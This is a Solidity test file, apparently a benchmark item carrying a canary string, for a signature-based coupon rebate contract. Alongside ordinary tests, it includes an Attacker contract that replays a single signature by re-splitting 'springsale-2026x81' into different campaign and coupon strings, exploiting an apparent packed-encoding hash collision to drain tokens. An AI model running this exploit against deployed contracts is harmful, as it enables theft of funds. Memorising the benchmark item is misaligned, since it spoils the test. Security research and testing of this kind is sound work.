// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./CampaignRebates.sol";
import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-52abb246-88c2-48ea-880e-086a6461dec0

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20("Coin", "COIN") {
    constructor() {
        _mint(msg.sender, 1_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant SHOP = address(0x5409);
    address private constant ANA = address(0xA9A);
    uint256 private constant START = 1_700_000_000;
    uint256 private constant KEY = 0x5151;

    Coin private token;
    CampaignRebates private rebates;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        vm.prank(SHOP);
        rebates = new CampaignRebates(token, vm.addr(KEY));
        token.transfer(address(rebates), 1_000e18);
        mallory = new Attacker(rebates);
        mallory.keep(signed(KEY, address(mallory), "spring", "sale-2026x81", 20e18));
    }

    function signed(uint256 key, address who, string memory campaign, string memory coupon, uint256 amount)
        private
        returns (bytes memory)
    {
        bytes32 hash = rebates.digest(who, campaign, coupon, amount, START + 30 days);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, hash);
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        bytes memory first = signed(KEY, ANA, "spring", "a1", 30e18);
        bytes memory second = signed(KEY, ANA, "autumn", "a1", 40e18);
        rebates.redeem(ANA, "spring", "a1", 30e18, START + 30 days, first);
        rebates.redeem(ANA, "autumn", "a1", 40e18, START + 30 days, second);
        require(token.balanceOf(ANA) == 70e18 && rebates.spent("autumn") == 40e18, "two");
        require(rebates.redeemed("spring", "a1") && !rebates.redeemed("spring", "a2"), "marked");
        vm.startPrank(SHOP);
        rebates.setSigner(vm.addr(0x77));
        rebates.sweep(100e18);
        vm.stopPrank();
        require(token.balanceOf(SHOP) == 100e18, "swept");
        rebates.redeem(ANA, "spring", "a2", 5e18, START + 30 days, signed(0x77, ANA, "spring", "a2", 5e18));
        vm.startPrank(SHOP);
        rebates.transferOwnership(ANA);
        vm.stopPrank();
        vm.prank(ANA);
        rebates.renounceOwnership();
    }

    function test_Refuses() public {
        bytes memory first = signed(KEY, ANA, "spring", "a1", 30e18);
        vm.expectRevert(WrongSigner.selector);
        rebates.redeem(ANA, "spring", "a1", 31e18, START + 30 days, first);
        rebates.redeem(ANA, "spring", "a1", 30e18, START + 30 days, first);
        vm.expectRevert(Redeemed.selector);
        rebates.redeem(ANA, "spring", "a1", 30e18, START + 30 days, first);
        bytes memory next = signed(KEY, ANA, "spring", "a2", 30e18);
        vm.warp(START + 30 days + 1);
        vm.expectRevert(Expired.selector);
        rebates.redeem(ANA, "spring", "a2", 30e18, START + 30 days, next);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert(bytes("Ownable: caller is not the owner"));
        rebates.setSigner(ANA);
        vm.expectRevert(bytes("Ownable: caller is not the owner"));
        rebates.sweep(1);
        vm.stopPrank();
        vm.prank(SHOP);
        vm.expectRevert(bytes("no signer"));
        rebates.setSigner(address(0));
        vm.expectRevert(bytes("no coin"));
        new CampaignRebates(IERC20(address(0)), ANA);
    }

    function exploit() public {
        mallory.run(START + 30 days);
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 210e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(rebates);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    CampaignRebates private rebates;
    bytes private signature;

    constructor(CampaignRebates r) {
        rebates = r;
    }

    function keep(bytes calldata s) external {
        signature = s;
    }

    function run(uint256 expires) external {
        string memory text = "springsale-2026x81";
        for (uint256 i = 0; i < 11; i++) {
            rebates.redeem(address(this), this.cut(text, 0, 6 + i), this.cut(text, 6 + i, 18), 20e18, expires, signature);
        }
    }

    function cut(string calldata text, uint256 from, uint256 to) external pure returns (string memory) {
        return string(bytes(text)[from:to]);
    }
}
